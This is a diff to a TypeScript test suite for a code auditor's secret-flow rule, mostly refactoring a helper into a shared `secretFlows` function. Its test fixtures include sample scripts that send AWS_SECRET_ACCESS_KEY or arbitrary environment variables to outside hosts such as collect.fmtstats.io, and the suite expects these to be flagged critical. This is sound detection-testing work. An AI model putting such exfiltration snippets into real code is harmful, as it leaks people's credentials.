@@ -29,6 +29,10 @@ function findings(
 
 const ruleAt = (fs: ReturnType<typeof findings>, rule: string) => fs.filter((f) => f.rule === rule);
 
+/** The secret-flow findings of one script, as [severity, excerpt]. */
+const secretFlows = (file: string, text: string) =>
+  ruleAt(findings({ [file]: text }), "secret-flow").map((f) => [f.severity, f.excerpt]);
+
 /** The first finding of `rule` in the audit of `files` has `severity`. */
 function assertFirst(files: Record<string, string>, rule: string, severity: string): void {
   const fs = findings(files);
@@ -829,8 +833,6 @@ Deno.test("a case's pattern list is words to match, not a pipeline: a clause's o
 });
 
 Deno.test("a string literal that reads as punctuation is a value, never an assignment, a bracket or a comma", () => {
-  const flows = (file: string, text: string) =>
-    ruleAt(findings({ [file]: text }), "secret-flow").map((f) => [f.severity, f.excerpt]);
   // `if "=" not in line:` bound a variable named `if`, holding the whole .env, which the
   // conditional expression `… if stream else …` then read (elastic's dotenv loaders).
   const dotenv = "import os, requests\n" +
@@ -846,7 +848,7 @@ Deno.test("a string literal that reads as punctuation is a value, never an assig
     '    data = {"prompt": prompt, "stream": True} if stream else {"prompt": prompt}\n' +
     '    return requests.post("https://api.example-llm.com/v1", json=data,' +
     ' headers={"Authorization": os.environ["EXAMPLE_LLM_API_KEY"]})\n';
-  const ask = flows("scripts/ask.py", dotenv);
+  const ask = secretFlows("scripts/ask.py", dotenv);
   assert.equal(ask.length, 1, JSON.stringify(ask));
   assert.equal(ask[0]![0], "info");
   assert.match(ask[0]![1]!, /\[\$EXAMPLE_LLM_API_KEY → api\./);
@@ -855,7 +857,9 @@ Deno.test("a string literal that reads as punctuation is a value, never an assig
     "def send(text):\n" +
     '    return requests.post("https://collect.fmtstats.io/v", data=text)\n' +
     'send(")" + os.environ["AWS_SECRET_ACCESS_KEY"])\n';
-  assert.deepEqual(flows("scripts/send.py", hidden).map(([severity]) => severity), ["critical"]);
+  assert.deepEqual(secretFlows("scripts/send.py", hidden).map(([severity]) => severity), [
+    "critical",
+  ]);
 });
 
 Deno.test("a script that loads a project's .env and sends one key by name is shown, not refused; one that sends the file is critical", () => {
@@ -902,8 +906,6 @@ Deno.test("a script that loads a project's .env and sends one key by name is sho
 });
 
 Deno.test("a helper that reads the environment variable its caller names returns that variable, not the environment", () => {
-  const flows = (file: string, text: string) =>
-    ruleAt(findings({ [file]: text }), "secret-flow").map((f) => [f.severity, f.excerpt]);
   // elastic's `_get_env(name)`: the key by name, to the endpoint the user configures (shown);
   // the request's header set with add_header is what the request sends.
   const helper = "import os, urllib.request\n" +
@@ -912,7 +914,7 @@ Deno.test("a helper that reads the environment variable its caller names returns
     "    if not value:\n" +
     "        raise SystemExit(f'{name} is not set: needed for {purpose}')\n" +
     "    return value\n";
-  const honest = flows(
+  const honest = secretFlows(
     "scripts/roles.py",
     helper +
       "def request(path):\n" +
@@ -926,7 +928,7 @@ Deno.test("a helper that reads the environment variable its caller names returns
   // The name the caller passes decides, whatever the helper is called: a cloud key to a
   // host that is not its own is critical; a name by keyword, or reassigned inside, any.
   const sent = (call: string) =>
-    flows(
+    secretFlows(
       "scripts/send.py",
       helper + "def pick(n):\n    if n == 'WEATHER_API_KEY':\n" +
         "        n = 'AWS_SECRET_ACCESS_KEY'\n    return os.environ.get(n)\n" +
@@ -940,7 +942,7 @@ Deno.test("a helper that reads the environment variable its caller names returns
   const js = "function env(name) { return process.env[name]; }\n" +
     'await fetch("https://api.weather.example/v1", { headers: { key: env("WEATHER_API_KEY") } });\n' +
     "function leak(name) { return fetch('https://api.weather.example/v2', { body: process.env[name] }); }\n";
-  assert.deepEqual(flows("scripts/w.mjs", js).map(([s]) => s).sort(), ["critical", "info"]);
+  assert.deepEqual(secretFlows("scripts/w.mjs", js).map(([s]) => s).sort(), ["critical", "info"]);
 });
 
 Deno.test("a script that runs text it reads from a file makes its comments code, whatever the path's names", () => {
